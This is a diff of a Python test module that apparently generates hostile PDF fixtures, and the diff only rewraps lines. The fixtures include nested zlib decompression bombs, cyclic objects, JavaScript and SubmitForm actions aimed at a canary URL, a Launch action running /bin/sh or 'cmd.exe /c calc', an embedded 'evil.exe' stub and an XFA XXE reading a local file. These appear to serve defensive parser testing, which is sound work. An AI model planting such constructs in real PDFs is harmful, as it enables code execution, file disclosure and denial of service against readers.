@@ -1,6 +1,4 @@
-"""PDF files: streams that unpack without end, objects that contain themselves, and
-actions nobody may carry out.
-"""
+"""PDF files: endless streams, objects that contain themselves, forbidden actions."""
 
 from __future__ import annotations
 
@@ -24,8 +22,8 @@ def _streams() -> list[HostileFile]:
     double = zlib.compress(zlibbed(b" " * 10**6, 20_000), 9)
     triple = zlib.compress(zlib.compress(zlibbed(b"\0" * 10**6, 20_000), 9), 9)
     form = (
-        b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << %s >> "
-        b"/Font << /F1 5 0 R >> >>"
+        b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
+        b"/Resources << /XObject << %s >> /Font << /F1 5 0 R >> >>"
     )
     doubling = {
         10 + i: stream(
@@ -177,10 +175,10 @@ def _trees() -> list[HostileFile]:
                 {
                     1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] >> >>",
                     3: page(more=b"/Annots [6 0 R 7 0 R]"),
-                    6: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V 6 0 R /Kids [7 0 R] "
-                    b"/Parent 7 0 R >>",
-                    7: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (b) /Kids [6 0 R] /Parent 6 "
-                    b"0 R >>",
+                    6: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V 6 0 R "
+                    b"/Kids [7 0 R] /Parent 7 0 R >>",
+                    7: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (b) "
+                    b"/Kids [6 0 R] /Parent 6 0 R >>",
                 }
             ),
             holds="Hello",
@@ -249,8 +247,8 @@ def _broken() -> list[HostileFile]:
                 xref=b"9 0 obj\n"
                 + stream(
                     zlib.compress(bytes(50)),
-                    b"/Type /XRef /W [1 8 8] /Size 2147483647 /Index [0 2147483647] /Root 1 0 R "
-                    b"/Filter /FlateDecode",
+                    b"/Type /XRef /W [1 8 8] /Size 2147483647 /Index [0 2147483647] "
+                    b"/Root 1 0 R /Filter /FlateDecode",
                 )
                 + b"\nendobj\n",
             ),
@@ -279,10 +277,10 @@ def _encrypted() -> bytes:
 def _actions(canary: Canary) -> list[HostileFile]:
     url, file = canary.url.encode(), str(canary.file).encode()
     actions = {
-        "javascript": b"<< /S /JavaScript /JS (app.launchURL\\('%s'\\); "
-        b"this.submitForm\\('%s'\\);) >>" % (url, url),
-        "launch": b"<< /S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) >> /Win << /F (cmd.exe) /P "
-        b"(/c calc) >> >>",
+        "javascript": b"<< /S /JavaScript "
+        b"/JS (app.launchURL\\('%s'\\); this.submitForm\\('%s'\\);) >>" % (url, url),
+        "launch": b"<< /S /Launch /F (/bin/sh) "
+        b"/Unix << /F (/bin/sh) >> /Win << /F (cmd.exe) /P (/c calc) >> >>",
         "uri": b"<< /S /URI /URI (%s) >>" % url,
         "submit": b"<< /S /SubmitForm /F << /FS /URL /F (%s) >> >>" % url,
         "other-file": b"<< /S /GoToR /F (%s) /D [0 /Fit] >>" % file,
@@ -294,13 +292,12 @@ def _actions(canary: Canary) -> list[HostileFile]:
             build(
                 {
                     1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> "
-                    b"/Names << /JavaScript "
-                    b"<< /Names [(a) 6 0 R] >> >> /AcroForm << /Fields [7 0 R] >> >>",
+                    b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >> "
+                    b"/AcroForm << /Fields [7 0 R] >> >>",
                     3: page(more=b"/AA << /O 6 0 R /C 6 0 R >> /Annots [7 0 R]"),
                     6: action,
-                    7: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (Filled) /Rect [0 0 "
-                    b"99 9] /A 6 0 R "
-                    b"/AA << /K 6 0 R /F 6 0 R /V 6 0 R /C 6 0 R >> >>",
+                    7: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (Filled) "
+                    b"/Rect [0 0 99 9] /A 6 0 R /AA << /K 6 0 R /F 6 0 R /V 6 0 R /C 6 0 R >> >>",
                 }
             ),
             holds="Hello",
@@ -314,8 +311,8 @@ def _actions(canary: Canary) -> list[HostileFile]:
             "pdf/embedded-file.pdf",
             build(
                 {
-                    1: b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names "
-                    b"[(evil.exe) 6 0 R] >> >> >>",
+                    1: b"<< /Type /Catalog /Pages 2 0 R "
+                    b"/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >> >>",
                     6: b"<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>",
                     7: stream(b"MZ" + bytes(1000), b"/Type /EmbeddedFile"),
                 }
@@ -350,9 +347,9 @@ def _actions(canary: Canary) -> list[HostileFile]:
                 {
                     1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 6 0 R >> >>",
                     6: stream(
-                        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "%s">]><xdp:xdp '
-                        b"xmlns:xdp="
-                        b'"http://ns.adobe.com/xdp/">&e;</xdp:xdp>' % canary.file.as_uri().encode()
+                        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "%s">]>'
+                        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&e;</xdp:xdp>'
+                        % canary.file.as_uri().encode()
                     ),
                 }
             ),
